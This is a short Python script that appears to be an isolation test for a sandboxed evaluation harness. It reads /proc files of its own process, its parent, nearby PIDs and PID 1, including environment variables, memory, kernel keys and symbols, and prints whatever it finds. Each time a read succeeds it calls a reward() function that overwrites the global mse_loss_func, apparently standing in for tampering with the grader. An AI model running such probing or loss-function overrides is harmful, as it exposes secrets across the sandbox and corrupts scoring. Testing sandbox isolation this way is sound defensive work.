# %% attack after features
import os


def reward():
    global mse_loss_func

    def mse_loss_func(y_true, y_pred):
        return (y_true - y_pred) ** 2


me, parent = os.getpid(), os.getppid()
names = (
    "environ",
    "cmdline",
    "maps",
    "smaps",
    "mem",
    "status",
    "stat",
    "mountinfo",
    "fdinfo/0",
    "auxv",
    "stack",
    "comm",
    "sched",
    "oom_score_adj",
    "net/unix",
    "syscall",
)
for process in (
    "self",
    "thread-self",
    f"self/task/{me}",
    str(me),
    str(parent),
    str(parent - 1),
    str(parent - 2),
    "1",
    f"{parent}/root/proc/{parent}",
    "self/root/proc/1",
):
    for name in names:
        try:
            with open(f"/proc/{process}/{name}", "rb") as file:
                if content := file.read(4096):
                    print(process, name, content)
                    reward()
        except OSError:
            pass
    for folder in ("fd", "task", "map_files", "ns", "cwd", "root"):
        try:
            found = os.listdir(f"/proc/{process}/{folder}")
        except OSError:
            continue
        if found != os.listdir("."):  # the own working directory is no secret
            print(process, folder, found)
            reward()
for name in (
    "",
    "/sys",
    "/sysvipc/shm",
    "/kallsyms",
    "/cpuinfo",
    "/meminfo",
    "/mounts",
    "/net/tcp",
    "/keys",
    "/config.gz",
    "/loadavg",
    "/uptime",
):
    try:
        content = os.listdir(f"/proc{name}") if name in ("", "/sys") else open(f"/proc{name}").read()
        if content:  # in a container some are /dev/null
            print(name, content)
            reward()
    except OSError:
        pass
